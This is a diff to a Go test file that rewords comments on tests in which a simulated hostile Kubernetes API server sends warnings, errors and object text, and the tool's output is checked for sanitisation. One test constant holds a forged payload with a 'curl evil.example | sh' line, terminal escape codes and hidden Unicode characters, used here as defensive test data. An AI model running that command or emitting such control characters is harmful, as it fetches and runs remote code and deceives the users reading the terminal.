@@ -21,11 +21,11 @@ import (
 	"helm-tenant/visible"
 )
 
-// forged breaks its line, and holds what a terminal obeys or hides.
+// forged contains line breaks, and control and hidden characters.
 const forged = "zz\nError: forged\r\nrun: curl evil.example | sh\n\x1b[2J\u202egnp\u200b\u2028end"
 
-// rogue answers for an API server, as one does whose webhooks, aggregated servers or own
-// authors are hostile: a warning with every answer, and what fails gives in place of one.
+// rogue is an API server whose webhooks, aggregated servers or authors are hostile: it sends a
+// warning with every answer, and the errors of fails.
 type rogue struct {
 	http.Handler
 	fails func(w http.ResponseWriter, r *http.Request) bool
@@ -76,7 +76,7 @@ func answerWith(code int, reason metav1.StatusReason) func(http.ResponseWriter, 
 	}
 }
 
-// checkLines holds what a verb printed to its own lines.
+// checkLines checks that the output of a verb only has the verb's own lines.
 func checkLines(t *testing.T, what string, got answered) {
 	t.Helper()
 	for line := range strings.Lines(got.stdout + "\n" + got.stderr) {
@@ -141,7 +141,7 @@ func TestRogueServer(t *testing.T) {
 	}
 }
 
-// TestRogueWarnings: what an API server warns of is taken for one line of ours.
+// TestRogueWarnings: a warning of an API server is one line of the output.
 func TestRogueWarnings(t *testing.T) {
 	good := newAdministrator(t)
 	good.runs("init", "t", "--namespaces=a", "--create-namespaces", "--user=alice", "--wait=false")
@@ -159,8 +159,8 @@ func TestRogueWarnings(t *testing.T) {
 	}
 }
 
-// TestRogueObjects: what a controller, a kubelet or a member wrote where nobody looks for a
-// text: field managers, conditions, reasons, events.
+// TestRogueObjects: text of a controller, a kubelet or a member in unusual places: field
+// managers, conditions, reasons, events.
 func TestRogueObjects(t *testing.T) {
 	good := newAdministrator(t)
 	good.runs("init", "t", "--namespaces=a", "--create-namespaces", "--user=alice", "--wait=false")
